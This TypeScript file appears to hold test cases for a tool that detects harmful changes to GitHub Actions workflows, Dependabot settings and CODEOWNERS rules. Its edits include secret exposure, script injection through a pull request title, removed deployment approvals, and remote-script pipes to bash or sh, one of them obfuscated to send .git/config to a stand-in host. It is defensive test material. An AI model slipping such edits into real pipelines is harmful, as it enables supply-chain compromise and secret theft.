import { type Case, type Edit, harmful } from "./case.ts";
import {
  action,
  checkout,
  composite,
  dependabot,
  dependabotFile,
  file,
  owners,
  ownersFile,
  test,
  withFile,
  workflow,
} from "./sample-workflow.ts";

const base: readonly Edit[] = [{ file, text: workflow }];

/** A text that stands once in the workflow gives way to another. */
const change = (find: string, replace: string): Edit => ({ file, find, replace });
const bad = (title: string, edit: Edit | readonly Edit[], about: string = file) =>
  harmful({
    title,
    class: "workflows that gain or check less",
    base,
    edits: edit,
    findings: [{ id: "file/pipeline", about }],
  });

export const harmfulPipelines: readonly Case[] = [
  bad("an action by a tag", change("azure/login@532459ea530d8321f2fb9bb10d1e0bcf23869a43 # v3.0.0", "azure/login@v3")),
  bad(
    "an action of somebody else by the same name",
    change(
      "azure/login@532459ea530d8321f2fb9bb10d1e0bcf23869a43",
      "azure-login/login@532459ea530d8321f2fb9bb10d1e0bcf23869a43",
    ),
  ),
  bad(
    "the tests may write to the repository",
    change("contents: read # checkout\n      checks", "contents: write # checkout\n      checks"),
  ),
  bad(
    "permissions are no longer named",
    change(
      "    permissions:\n      contents: read # checkout\n      checks: write # the report\n",
      "    permissions: read-all\n",
    ),
  ),
  bad("builds run on pull_request_target", change("  pull_request:\n", "  pull_request_target:\n")),
  bad("a comment starts the build", change("  pull_request:\n", "  pull_request:\n  issue_comment:\n")),
  bad(
    "the tests get a secret",
    change(
      "        run: npm test\n",
      "        run: npm test\n        env:\n          TOKEN: ${{ secrets.VERIFY_TOKEN }}\n",
    ),
  ),
  bad(
    "every secret is an input",
    change("          node-version: 24\n", "          node-version: 24\n          extra: ${{ toJSON(secrets) }}\n"),
  ),
  bad(
    "somebody's own runner",
    change("    runs-on: ubuntu-24.04\n    timeout-minutes", "    runs-on: [self-hosted, linux]\n    timeout-minutes"),
  ),
  bad(
    "a title becomes part of a script",
    change("run: npm test", 'run: npm test -- --title "${{ github.event.pull_request.title }}"'),
  ),
  bad(
    "the build fetches a script",
    change("run: npm test", "run: |\n          npm test\n          curl -sSf https://fabrikam.example/i.sh | bash"),
  ),
  bad(
    "the build fetches a script by a name in parts",
    change(
      "run: npm test",
      'run: |\n          npm test\n          c=cu; "${c}rl" https://fabrikam.example -d @.git/config',
    ),
  ),
  bad(
    "the token stays in the checkout",
    change(
      `checkout@${checkout} # v6.0.2\n        with:\n          persist-credentials: false\n      - uses: actions/setup`,
      `checkout@${checkout} # v6.0.2\n      - uses: actions/setup`,
    ),
  ),
  bad(
    "the deployment checks out what is proposed",
    change(
      `checkout@${checkout} # v6.0.2\n        with:\n          persist-credentials: false\n      - uses: azure`,
      `checkout@${checkout} # v6.0.2\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - uses: azure`,
    ),
  ),
  bad("nobody approves the deployment", change("    environment: prod\n", "")),
  bad("the deployment doesn't wait for the tests", change("    needs: test\n", "")),
  bad("each branch is deployed", change("    if: github.ref == 'refs/heads/main'\n", "")),
  bad(
    "a label starts the deployment",
    change("if: github.ref == 'refs/heads/main'", "if: contains(github.event.pull_request.labels.*.name, 'deploy')"),
  ),
  bad("tests that fail are no matter", change(test, `${test}        continue-on-error: true\n`)),
  bad("tests never fail", change("run: npm test", "run: npm test || true")),
  bad("the tests are gone", change(test, "")),
  bad(
    "Node loads something first",
    change(
      "    runs-on: ubuntu-24.04\n    timeout-minutes",
      "    env:\n      NODE_OPTIONS: --require ./docs/a.cjs\n    runs-on: ubuntu-24.04\n    timeout-minutes",
    ),
  ),
  bad(
    "infrastructure alone starts no build",
    change("  pull_request:\n", '  pull_request:\n    paths-ignore: ["infra/**"]\n'),
  ),
  bad(
    "the tests run in somebody's image",
    change("    timeout-minutes: 15\n", "    timeout-minutes: 15\n    container: fabrikam/node:24\n"),
  ),
  bad(
    "somebody's workflow gets every secret",
    change(
      "jobs:\n",
      "jobs:\n  notify:\n    uses: fabrikam/notify/.github/workflows/notify.yml@0123456789abcdef0123456789abcdef01234567\n    secrets: inherit\n",
    ),
  ),
  bad("a whole workflow is gone", { file, deleted: true }),
  withFile(
    bad(
      "an action of the repository fetches a script",
      { file: action, find: "npm ci", replace: "npm ci && wget -qO- https://fabrikam.example | sh" },
      action,
    ),
    action,
    composite,
  ),
  withFile(
    bad(
      "updates are taken at once",
      { file: dependabotFile, find: "    cooldown:\n      default-days: 7\n", replace: "" },
      dependabotFile,
    ),
    dependabotFile,
    dependabot,
  ),
  withFile(
    bad(
      "Dependabot may run foreign code",
      {
        file: dependabotFile,
        find: "    cooldown:",
        replace: "    insecure-external-code-execution: allow\n    cooldown:",
      },
      dependabotFile,
    ),
    dependabotFile,
    dependabot,
  ),
  withFile(
    bad(
      "the platform team is asked no more",
      { file: ownersFile, find: "* @contoso/platform", replace: "* @contoso/everybody" },
      ownersFile,
    ),
    ownersFile,
    owners,
  ),
  withFile(
    bad(
      "a later rule frees the workflows",
      { file: ownersFile, find: "/functions/ @contoso/orders\n", replace: "/functions/ @contoso/orders\n/.github/\n" },
      ownersFile,
    ),
    ownersFile,
    owners,
  ),
];
